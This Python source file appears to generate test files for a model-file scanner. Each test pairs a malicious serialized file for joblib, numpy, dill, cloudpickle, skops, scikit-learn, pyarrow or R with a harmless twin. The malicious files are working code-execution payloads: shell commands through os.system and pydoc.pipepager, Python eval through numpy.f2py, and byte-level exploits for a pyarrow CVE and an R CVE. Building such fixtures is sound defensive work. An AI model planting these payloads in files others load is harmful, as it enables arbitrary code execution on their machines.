"""Files of the Python libraries around torch: joblib, dill, cloudpickle, skops, numpy, pyarrow, scikit-learn, R."""
import base64
import functools
import gzip
import io
import json
import pickle as pickles
import struct
import tempfile

from assembly import call, dot, glob, model, pickle
from pair import SHELL


def joblib_objects(value):
    """A joblib file whose object array holds `value`, in the pickle that follows the array's wrapper."""
    import joblib
    import numpy

    array = numpy.array([1.5, "@@mark@@", None], dtype=object)
    buffer = io.BytesIO()
    joblib.dump({"classes": array, "threshold": 0.5}, buffer)
    mark = b"\x8c\x08@@mark@@"
    data = buffer.getvalue()
    if mark not in data:
        mark = b"X\x08\0\0\0@@mark@@"
    assert data.count(mark) == 1
    at = data.index(mark)
    frame = data.rfind(b"\x80", 0, at)
    out = data[:at] + value + data[at + len(mark) :]
    if data[frame + 2 : frame + 3] == b"\x95":  # the frame of the inner pickle grows with the value
        size = struct.unpack("<Q", data[frame + 3 : frame + 11])[0] + len(value) - len(mark)
        out = out[: frame + 3] + struct.pack("<Q", size) + out[frame + 11 :]
    return out


def npy(descr, shape, body, version=(1, 0)):
    header = ("{'descr': %r, 'fortran_order': False, 'shape': %r, }" % (descr, shape)).encode()
    header += b" " * (63 - (10 + len(header)) % 64) + b"\n"
    return b"\x93NUMPY" + bytes(version) + struct.pack("<H", len(header)) + header + body


def object_records(value):
    """A structured array with an object field; numpy pickles the whole array behind the header."""
    descr = [("id", "<i4"), ("label", "|O")]
    return npy(descr, (1,), pickle([(7, value)], 3))


def dilled(source):
    import dill

    space = {"__name__": "__main__"}
    exec(source, space)
    return dill.dumps({"name": "calibrator", "model": space["Calibrator"]()}, recurse=True)


CALIBRATOR = """class Calibrator:
    def __init__(self):
        self.scale = 1.5

    def __getstate__(self):
        return {'scale': self.scale}

    def __setstate__(self, state):
        self.scale = state['scale']
        BODY
"""


def clouded(called):
    """A function by value; `called` says whether the pickle calls it or only keeps it."""
    import cloudpickle

    space = {"__name__": "__main__"}
    exec("def warm(path):\n    handle = open(path, 'w')\n    handle.close()\n    return 0.5\n", space)

    class Kept:
        def __reduce__(self):
            return (space["warm"], ("marker",)) if called else (dict, ([("warm", 0.5)],))

    return cloudpickle.dumps({"warm": Kept(), "again": space["warm"]})


def skop(function):
    import skops.io
    from sklearn.preprocessing import FunctionTransformer

    return skops.io.dumps(FunctionTransformer(func=function[0], kw_args=function[1]))


def vectorizer(tokenizer):
    from sklearn.feature_extraction.text import CountVectorizer

    words = CountVectorizer(tokenizer=tokenizer, token_pattern=None, vocabulary=["good", "bad"])
    return pickles.dumps({"extra": words, "version": 2}, 4)


def arrow(kind, data):
    import pyarrow
    import pyarrow.feather

    field = pyarrow.field("embedding", pyarrow.int64(), metadata={"ARROW:extension:name": kind, "ARROW:extension:metadata": data})
    out = io.BytesIO()
    with tempfile.NamedTemporaryFile() as file:
        table = pyarrow.table([pyarrow.array([1, 2, 3])], schema=pyarrow.schema([field]))
        pyarrow.feather.write_feather(table, file.name, compression="uncompressed")
        out.write(open(file.name, "rb").read())
    return out.getvalue()


# R serialization (XDR, version 3): R-ints "Serialization Formats".


def r_chars(text):
    return struct.pack(">II", 0x00040009, len(text)) + text.encode()


def r_strings(*texts):
    return struct.pack(">II", 16, len(texts)) + b"".join(map(r_chars, texts))


def r_symbol(name):
    return struct.pack(">I", 1) + r_chars(name)


NIL = struct.pack(">I", 0xFE)
GLOBAL_ENV = struct.pack(">I", 0xFD)
UNBOUND = struct.pack(">I", 0xFC)


def r_call(name, *args):
    out = struct.pack(">I", 6) + r_symbol(name)
    for arg in args:
        out += struct.pack(">I", 2) + arg
    return out + NIL


def rds(value):
    head = b"X\n" + struct.pack(">III", 3, 0x00040301, 0x00030500) + struct.pack(">I", 5) + b"UTF-8"
    body = struct.pack(">II", 0x213, 2) + struct.pack(">IId", 14, 1, 0.75) + value
    names = struct.pack(">I", 0x402) + r_symbol("names") + r_strings("coef", "formula") + NIL
    return gzip.compress(head + body + names, mtime=0)


def add(out):
    import numpy
    import pydoc

    out.add(
        "libraries", "joblib-object-array", joblib_objects(call(dot("logging", "os", "system"), SHELL)), joblib_objects(call(glob("fractions", "Fraction"), 3)),
        prove="joblib", file="labels.joblib",
        why="joblib reads an object array with a pickle of its own behind the wrapper; a value of it runs a command",
    )
    out.add(
        "libraries", "record-array-objects",
        object_records(call(glob("numpy.f2py.crackfortran", "myeval"), "__import__('os').system('touch marker')")), object_records(call(glob("decimal", "Decimal"), "1.5")),
        prove="numpy", file="records.npy",
        why="the dtype is a record with one object field, so numpy unpickles the body; a value of it goes to a helper of numpy.f2py that evaluates Python",
    )
    out.add(
        "libraries", "dill-setstate", dilled(CALIBRATOR.replace("BODY", "__import__('subprocess').call(['touch', 'marker'])")),
        dilled(CALIBRATOR.replace("BODY", "self.ready = max(self.scale, 1.0) > 0")), prove="dill", file="calibrator.dill",
        why="dill keeps a class of __main__ by value and calls its __setstate__ on load, whose byte code starts a process",
    )
    out.add(
        "libraries", "cloudpickle-called-function", clouded(True), clouded(False), prove="pickle", file="warm.pkl",
        why="a function kept by value is called on load and makes a file; in the twin the same function is kept and not called",
    )
    out.add(
        "libraries", "skops-function", skop((pydoc.pipepager, {"cmd": SHELL})), skop((numpy.log1p, None)), prove="twelfth-skops", file="pipeline.skops",
        why="the function of the transformer is pydoc.pipepager with a command of the file's: transform() runs it",
    )
    out.add(
        "libraries", "vectorizer-tokenizer", vectorizer(functools.partial(pydoc.pipepager, cmd=SHELL)), vectorizer(functools.partial(str.split, sep="-")),
        prove="call", file="vectorizer.pkl",
        why="the tokenizer of a text vectorizer pipes each document into a shell command kept in the file: any use runs it",
    )
    out.add(
        "libraries", "arrow-extension-pickle",
        arrow("arrow.py_extension_type", pickle(call(glob("os", "system"), SHELL))),
        arrow("geoarrow.point", json.dumps({"crs": "EPSG:4326", "edges": "planar", "note": base64.b64encode(pickle(model(1))).decode()[:16]}).encode()),
        prove="twelfth-arrow", file="embeddings.feather",
        why="CVE-2023-47248: pyarrow before 14.0.1 unpickles the metadata of this extension type on read; proved by unpickling that field as it does",
    )
    # A promise: its environment, no value yet, its expression.
    unsafe = struct.pack(">I", 0x405) + GLOBAL_ENV + UNBOUND + r_call("system", r_strings(SHELL))
    safe = struct.pack(">I", 6) + r_symbol("~") + struct.pack(">I", 2) + r_symbol("y") + struct.pack(">I", 2) + r_symbol("x") + NIL
    out.add(
        "libraries", "r-promise", rds(unsafe), rds(safe), file="fit.rds",
        why="CVE-2024-27322: an unevaluated promise whose expression is system(...) runs when the element is first used (R before 4.4); bytes by R-ints, R is not installed. The twin holds a formula",
    )
